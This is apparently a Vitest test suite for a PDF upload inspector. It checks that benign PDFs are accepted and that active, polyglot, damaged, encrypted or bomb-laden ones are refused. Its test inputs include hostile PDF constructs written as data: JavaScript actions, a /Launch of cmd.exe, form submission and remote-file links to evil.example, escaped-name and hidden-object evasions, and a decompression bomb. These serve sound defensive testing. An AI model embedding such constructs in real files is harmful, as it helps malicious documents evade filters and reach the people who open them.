import { syncBuiltinESMExports } from 'node:module';
import zlib, { deflateSync } from 'node:zlib';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { checkPdf } from '#files/inspection/pdf/check-pdf.ts';
import { docx } from '#test/support/files/sample-files/docx.ts';
import { pdf, pdfWithObjectStream, stream } from '#test/support/files/sample-files/pdf.ts';
import { createFileInspection } from './inspect-file.ts';

const inspect = createFileInspection();
const ended: string[] = [];
/** Ends its child, and says so, when a file costs more of the processor than this. */
const inspectWithinCpuBound = createFileInspection({
  taskCpuMsMax: 10_000,
  onDeath: (cause) => ended.push(cause),
});
const inspectPdf = (bytes: Buffer) => inspect('cv.pdf', bytes);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('A PDF is accepted', () => {
  it.each([
    ['with an xref table', pdf()],
    ['with an xref stream and object streams', pdfWithObjectStream()],
    ['with an incremental update right behind the first end', updated()],
    ['with line ends and zeros behind the end', Buffer.concat([pdf(), Buffer.from('\r\n\0\0 ')])],
    ['whose text speaks of JavaScript', pdf(['(a \\) /JavaScript CV (nested) /JS)'])],
    ['with a comment that speaks of JavaScript', pdf(['<< >> % /JS /Launch'])],
    ['with a compressed stream of any bytes', pdf([stream('', '(((\\ /JS /Launch %PDF (')])],
    ['with two blank lines in front', pdf([], { prefix: '\r\n\n' })],
    ['with a comment behind its end', Buffer.concat([pdf(), Buffer.from('%made by hand\r\n % twice')])],
    ['with hexadecimal strings', pdf(['<< /ID [<00 fF><>] /T <feff0031> >>'])],
    [
      'with a comment between a dictionary and its stream',
      pdf(['<< /Length 1 >> % here\nstream\nx\nendstream']),
    ],
    ['whose text tells of a trailer and an obj', pdf(['(the trailer of 2 films, 1 obj)'])],
    ['whose text counts its aims', pdf(['(Phase 2 - objectifs, 2023 12 objets)'])],
    ['with arrays and dictionaries within one another', pdf(['<< /A [ [ << /B [ ] >> ] << >> ] >>'])],
    ...['<<Web>> /JS', 'a > b << c /Launch', '%<< /JavaScript'].map((title): [string, Buffer] => [
      `whose title in an object stream is ${title}`,
      pdfWithObjectStream(`/Title (${title}) /Author (\\(x\\) /EF)`),
    ]),
    ['behind a byte order mark', Buffer.concat([Buffer.from('\ufeff'), pdf()])],
    ['behind a byte order mark and a blank line', pdf([], { prefix: '\xef\xbb\xbf\r\n' })],
    [
      'that is counted from behind its byte order mark',
      Buffer.concat([Buffer.from('\ufeff'), pdfWithObjectStream()]),
    ],
    ['whose object stream speaks of JavaScript', pdfWithObjectStream('/T (HTML/CSS/JavaScript)')],
    ...[
      ['/Filter [ /FlateDecode ]\r\n', '/Type/ObjStm/Extends 4 0 R/DL 60'],
      ['/DecodeParms<<>>/Filter/FlateDecode', '/Type /ObjStm'],
      ['/Filter/FlateDecode /DecodeParms null', '/Type /ObjStm'],
    ].map(([filter = '', dictionary = '']): [string, Buffer] => [
      `with an object stream of ${dictionary}${filter}`,
      pdfWithObjectStream('', { filter, dictionary }),
    ]),
    ['with a script’s name as part of another', pdf(['<< /JSX /LaunchPad /EncryptMetadata false >>'])],
  ])('%s', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe('accepted');
  });
});

describe('A PDF is refused as active', () => {
  it.each([
    ['with a script on opening', pdf([script], { catalog: '/OpenAction 6 0 R' })],
    ['with a script under an escaped name', pdf(['<< /S /Java#53cript /J#53 (x) >>'])],
    ['with a script’s name wholly escaped', pdf(['<< /S /#4a#61#76#61#53#63#72#69#70#74 >>'])],
    ['with a rendition’s script', pdf(['<< /S /Rendition /JS 7 0 R >>', stream('', 'app.alert(1)')])],
    ['with a list of scripts', pdf([], { catalog: '/Names << /JavaScript 6 0 R >>' })],
    ['with a command to run', pdf(['<< /S /Launch /F (cmd.exe) >>'])],
    ['with an attachment', pdf([stream('/Type /EmbeddedFile', 'MZ')])],
    ['with a list of attachments', pdf([], { catalog: '/Names << /EmbeddedFiles 6 0 R >>' })],
    [
      'with a script between strings that begin in hexadecimal ones',
      pdf([`<< /X <28> ${script} /Y <29> >>`]),
    ],
    [
      'with an attachment of a page',
      pdf(['<< /Subtype /FileAttachment /FS << /Type /Filespec /EF << /F 7 0 R >> >> >>']),
    ],
    ['with an attached file alone', pdf(['<< /Type /Filespec /EF << /F 7 0 R >> >>'])],
    ['with an XML form', pdf([], { catalog: '/AcroForm << /XFA 6 0 R >>' })],
    ['that sends a form', pdf(['<< /S /SubmitForm /F (https://evil.example) >>'])],
    ['that takes data in', pdf(['<< /S /ImportData /F (x.fdf) >>'])],
    ['that opens a file elsewhere', pdf(['<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>'])],
    ['that opens a file within', pdf(['<< /S /GoTo#45 /T << /R /C >> >>'])],
    ['with rich media', pdf(['<< /Subtype /RichMedia >>'])],
    ['with a script in the line of an end', pdf([`null\n%%EOF7 0 obj ${script.replace(/\(.*\)/, 'null')}`])],
    ['with a script behind a comment', pdf(['<< /S % (\n/JavaScript >>'])],
    ['with a script behind an escaped parenthesis', pdf([`[ (a \\) b) ${script} ]`])],
    ['with a script in an object stream', pdfWithObjectStream(script)],
    [
      'with a script in an object stream of no declared type',
      pdfWithObjectStream(script, { dictionary: '' }),
    ],
    ['with a script that ends at a blank of PDFium', pdf(['<< /S /JavaScript\x80 /JS\xff(x) >>'])],
    [
      'with a script in an unpacked object stream',
      pdfWithObjectStream('', { packed: Buffer.from(`1 0 ${script}`), filter: '' }),
    ],
  ])('%s', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toMatch(/^file_type: The file holds macros, scripts or attachments/);
  });
});

describe('A PDF is refused as polyglot', () => {
  it.each([
    ['with a zip behind its end', Buffer.concat([pdf(), docx()])],
    ['with text behind its end', Buffer.concat([pdf(), Buffer.from('<script>')])],
    ['with a zip whose comment repeats the end', Buffer.concat([pdf(), docx([], { comment: '%%EOF' })])],
    ['with a zip in a stream near its end', pdf([stream('', docx().toString('latin1'))])],
    ['with an object hidden in a stream', pdf([stream('', `9 0 obj ${script} endobj`)])],
    ['with an object hidden in a string', pdf([`( 9 0 obj ${script} endobj )`])],
    [
      'with an object hidden by comments in its header',
      pdf([stream('', `9 %x\n0 %y\nobj ${script} endobj`)]),
    ],
    ['with an object hidden by zeros in its header', pdf([stream('', `9\x000\x00obj ${script} endobj`)])],
    ['with an object hidden by no blank in its header', pdf([stream('', `9 0obj ${script} endobj`)])],
    ['with a trailer hidden in a string', pdf([`( trailer %x\n<< /Root << ${script} >> >> )`])],
    ...[
      ...['\n%9 0 %x\nobj', `9 0%${'x'.repeat(5000)}\nobj`, '9 0.0 obj', '9 +0 obj', '9\x800\xffobj'],
      ...['9 0e0 obj', `trailer${' '.repeat(5000)}`, 'trailer %x\n%y\n', 'trailer % trailer'],
    ].map((header): [string, Buffer] => [
      `with an object hidden behind ${JSON.stringify(header.replace(/(.)\1+/, '$1…'))}`,
      pdf([stream('', `${header}${script}`)]),
    ]),
    ['with an object hidden across strings', pdf([`[(9 0 %) (\nobj ${script})]`])],
    ['with a trailer hidden across strings', pdf([`[(trailer %) (\n<< /Root ${script} >>)]`])],
    ['with a script in a string of an object stream', unpackedObjects(`2 1 (${script})`)],
    ['with a script in a comment of an object stream', unpackedObjects(`2 1 %${script}\n`)],
    ['with a script in two strings of an object stream', unpackedObjects('2 1 (<<%) (\n/J#53 <61>)')],
    ['with a script where the index of an object stream says', unpackedObjects('2 2 [(<<) (] >>/JS)]')],
    ['with a script between the signs of an object stream', unpackedObjects('2 1 << (> /JS (x) ) >>')],
    ['with an object hidden in a comment', pdf([`null % 9  0\tobj ${script} endobj`])],
  ])('%s', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe('file_type: The file holds another file. Send each file alone.');
  });
});

const damaged = 'file_unreadable: This PDF is damaged. Save it again and send that.';

describe('A PDF is refused', () => {
  it.each([
    ['with its header at offset 500', pdf([], { prefix: ' '.repeat(500) })],
    ['with another byte in front', pdf([], { prefix: 'x' })],
    ['with more blanks in front than a program writes', pdf([], { prefix: '\n'.repeat(40) })],
    ['without its header', pdf().subarray(5)],
  ])('%s: damaged', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe(damaged);
  });

  it.each([
    ['a text', Buffer.from('Parcours')],
    ['a video', Buffer.from('\x1aE\xdf\xa3 endobject', 'latin1')],
  ])('that is %s: no PDF', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe(
      'file_type: The file is no PDF, DOC, DOCX, JPG or PNG. Export it as a PDF.',
    );
  });

  it('that lost its bytes on the way: damaged', async () => {
    expect(await inspectPdf(Buffer.alloc(2000))).toBe(damaged);
  });

  it.each([
    ['encrypted', pdf(['<< /Filter /Standard /V 2 >>'], { trailer: '/Encrypt 6 0 R' })],
    ['encrypted under an escaped name', pdf([], { trailer: '/#45ncrypt 6 0 R' })],
  ])('%s: locked', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe(
      'file_unreadable: The file is encrypted. Save it without a password.',
    );
  });

  it.each([
    ['cut off before its end', pdf().subarray(0, -8)],
    ['that is a header alone', Buffer.from('%PDF-1.7\n%%EOF')],
    ['without a trailer', Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\n%%EOF')],
    ['with a string that never ends', pdf(['(never'])],
    ...['(', '%', '20%', '0', '<<'].map((inside): [string, Buffer] => [
      `with a hexadecimal string of ${inside} that hides a script`,
      pdf([`<</X <${inside}>/OpenAction ${script}/Y <)>>>`.replace('<0>', '<0x>')]),
    ]),
    ['with a hexadecimal string that never ends', pdf(['<0123'])],
    [
      'whose dictionary hides a script behind the word stream',
      pdf(['<< /Z stream /S /JavaScript endstream >>']),
    ],
    ['with a stream that has no dictionary', pdf(['[ << >> stream x endstream ]'])],
    ['with a string begun in the line of an end', pdf([`null\n%%EOF 7 0 obj (\n${script}%)`])],
    ['with a stream that never ends', pdf(['<< >> stream never'])],
    [
      'with an object stream of crossed brackets',
      pdf([`<< /X << /A ] >> stream\n/P ${script} >> endstream`]),
    ],
    ['with a stream within an array', pdf([`[ >> stream ${script} ] endstream`])],
    [
      'with the word obj in a dictionary',
      pdf(['<< /Type /ObjStm /First 4 /X obj [ >> stream\nx\nendstream']),
    ],
    ['with a stream behind a blank of PDFium', pdf(['<< /First 4 >>\x80stream\n2 1 (x)\nendstream'])],
    ['of more brackets than any has', pdf(['['.repeat(501)])],
    ...['/F /ASCIIHexDecode', '/Filter\xa0/FlateDecode', '/DecodeParmsnull/Filter/FlateDecode'].map(
      (filter): [string, Buffer] => [
        `with an object stream under ${JSON.stringify(filter)}`,
        pdfWithObjectStream('', { filter }),
      ],
    ),
    ['with a predictor told elsewhere', pdfWithObjectStream('', { dictionary: '/DecodeParms 9 0 R' })],
    [
      'with a filter told elsewhere and in a string',
      pdfWithObjectStream('', { filter: '/Filter 9 0 R /X (/Filter/FlateDecode/)' }),
    ],
    [
      'with an object stream that goes on behind its end',
      pdf(['<< /First 4 /N 1 /Length 9 0 R >>\nstream\n2 12 endstream', `(${script})`]),
    ],
    [
      'with an object stream that is cut',
      pdfWithObjectStream('', { packed: deflateSync('1 0 x').subarray(0, -6) }),
    ],
    ...['/N 2', '/First 3', '/First 900'].map((told): [string, Buffer] => [
      `whose object stream’s index is told twice, or wrongly, as ${told}`,
      pdfWithObjectStream('', { dictionary: told }),
    ]),
    ['with an index of words', unpackedObjects('2 x ()')],
    ['with a damaged object stream', pdfWithObjectStream('', { packed: Buffer.from('no deflate') })],
    ['with an object stream packed twice', packedTwice()],
    ['with an object stream in another filter', pdfWithObjectStream('', { filter: '/Filter /LZWDecode' })],
    ['with a filter told elsewhere', pdfWithObjectStream('', { filter: '/Filter 9 0 R' })],
    [
      'with a predictor on an object stream',
      pdfWithObjectStream('', { dictionary: '/DecodeParms << /Predictor 12 >>' }),
    ],
    [
      'with a bomb for an object stream',
      pdfWithObjectStream('', { packed: deflateSync(Buffer.alloc(2 ** 26)) }),
    ],
  ])('%s: damaged', async (_, bytes) => {
    expect(await inspectPdf(bytes)).toBe(damaged);
  });
});

function unpackedObjects(content: string): Buffer {
  return pdfWithObjectStream('', { packed: Buffer.from(content), filter: '' });
}

/** Acrobat begins what it appends without a line end. */
function updated(): Buffer {
  return Buffer.concat([pdf().subarray(0, -1), pdf().subarray(pdf().indexOf('1 0 obj'))]);
}

function packedTwice(): Buffer {
  return pdfWithObjectStream('', {
    packed: deflateSync(deflateSync(`1 0 ${script}`)),
    filter: '/Filter [/FlateDecode /FlateDecode]',
  });
}

it('one of many bombs in a PDF is unpacked, and no further than the bound', () => {
  const bomb = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(34_000_000));
  const inflate = vi.spyOn(zlib, 'inflateSync');
  syncBuiltinESMExports();
  onTestFinished(() => {
    inflate.mockRestore();
    syncBuiltinESMExports();
  });
  expect(checkPdf(pdf(Array<string>(40).fill(bomb)))).toBe('damaged');
  expect(inflate.mock.calls.map(([, options]) => options)).toEqual([{ maxOutputLength: 33_554_432 }]);
});

it.each([
  ...['trailer', 'trailer%', `${'trailer%'.repeat(500)}\n`, '%\n', 'obj\n', '\n%%%\nobj', ' %0%0%0%\nobj '],
])('a PDF with 8 MB of %j in a stream costs no more of the processor than it may', async (piece) => {
  const bytes = pdf([stream('', piece.repeat(8_000_000 / piece.length))]);
  expect(await inspectWithinCpuBound('cv.pdf', bytes)).toBe('accepted');
  expect(ended).toEqual([]);
});

function packed(bytes: number): string {
  return deflateSync(Buffer.alloc(bytes, ' ')).toString('latin1');
}
